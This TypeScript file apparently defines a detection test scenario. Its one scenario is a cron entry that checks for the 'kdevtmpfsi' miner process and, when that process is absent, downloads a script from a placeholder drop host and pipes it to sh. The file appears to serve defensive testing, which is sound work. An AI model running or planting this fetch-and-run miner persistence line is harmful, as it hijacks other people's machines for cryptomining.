import { scenario } from '../scenario.ts';
import { dropHost, underCron } from '../words.ts';

export default scenario({
  what: 'a cron line that asks for the miner’s name first',
  report: '`pgrep -f NAME || curl … | sh`.',
  ...underCron('/tmp/.d/kdevtmpfsi', [
    `* * * * * pgrep -f kdevtmpfsi >/dev/null || curl -fsSL http://${dropHost}/x.sh | sh`,
  ]),
});
